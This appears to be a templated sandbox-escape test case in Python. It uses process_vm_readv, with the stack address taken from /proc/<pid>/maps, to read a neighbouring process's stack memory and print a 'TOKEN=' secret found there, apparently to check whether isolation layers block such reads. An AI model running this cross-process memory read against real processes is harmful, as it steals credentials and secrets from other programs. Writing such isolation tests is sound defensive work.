# aim = "One system call reads the memory of another process"
# uses = "calls"
# real = "without pid user landlock seccomp"

# %% added
lines = open("/proc/@neighbour@/maps").read().splitlines()
start, end = (int(part, 16) for part in next(one for one in lines if "[stack]" in one).split()[0].split("-"))
buffer = ctypes.create_string_buffer(end - start)
ours = struct.pack("QQ", ctypes.addressof(buffer), end - start)
theirs = struct.pack("QQ", start, end - start)
call("process_vm_readv", @neighbour@, ours, 1, theirs, 1, 0)
print(buffer.raw[buffer.raw.find(b"TOKEN="):][:80])
